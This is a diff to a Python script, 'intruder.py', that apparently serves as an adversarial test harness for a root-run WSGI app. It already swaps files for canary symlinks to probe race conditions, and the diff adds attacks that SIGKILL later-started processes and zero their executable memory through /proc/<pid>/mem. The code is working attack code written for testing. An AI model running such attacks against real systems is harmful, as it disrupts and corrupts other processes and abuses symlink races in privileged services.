@@ -1,4 +1,4 @@
-"""A process of the app's user that changes trees while root works in them.
+"""A process that changes trees while root works in them, or that attacks processes of its user.
 
     python3 intruder.py ATTACK...
 
@@ -11,14 +11,18 @@ from __future__ import annotations
 import os
 import select
 import shutil
+import signal
 import sys
 from collections.abc import Iterator
 from contextlib import suppress
+from itertools import chain
 from pathlib import Path
 
 ROOTS = ("/tmp", "/var/tmp", "/srv/wsgi/evil", "/var/cache/wsgi/evil", "/var/lib/wsgi/evil")
 DEPTH = 6
 CANARY = "/opt/canary"
+SPARED = {name for name in os.listdir("/proc") if name.isdigit()}
+"""The processes that were there before, as the app, and this one."""
 
 
 def entries(path: str, depth: int = DEPTH) -> Iterator[os.DirEntry]:
@@ -64,6 +68,29 @@ def add_directories(entry: os.DirEntry) -> None:
         (added / "swap_added.py").touch()
 
 
+def kill_processes(entry: os.DirEntry) -> None:
+    """Kill a process that came later, if it may be killed."""
+    if is_later_process(entry):
+        os.kill(int(entry.name), signal.SIGKILL)
+
+
+def overwrite_memory(entry: os.DirEntry) -> None:
+    """Overwrite the code of a process that came later, if its memory may be written."""
+    if not is_later_process(entry):
+        return
+    with open(f"{entry.path}/maps") as maps, open(f"{entry.path}/mem", "r+b", 0) as memory:
+        for line in maps:
+            addresses, permissions, *_ = line.split()
+            if "x" in permissions and not line.rstrip().endswith("]"):
+                memory.seek(int(addresses.split("-")[0], 16))
+                memory.write(bytes(4096))
+
+
+def is_later_process(entry: os.DirEntry) -> bool:
+    """Return whether ``entry`` is a process that was not there before."""
+    return entry.path.startswith("/proc/") and entry.name.isdigit() and entry.name not in SPARED
+
+
 def toggle(path: str) -> None:
     """Replace a file by a link to the canary, or such a link by the file."""
     if os.path.islink(path):
@@ -77,11 +104,10 @@ def main() -> None:
     """Attack until standard input ends."""
     attacks = [globals()[name] for name in sys.argv[1:]]
     while not select.select([sys.stdin], [], [], 0)[0]:
-        for root in ROOTS:
-            for entry in entries(root):
-                for attack in attacks:
-                    with suppress(OSError):
-                        attack(entry)
+        for entry in chain(entries("/proc", depth=0), *map(entries, ROOTS)):
+            for attack in attacks:
+                with suppress(OSError):
+                    attack(entry)
 
 
 if __name__ == "__main__":
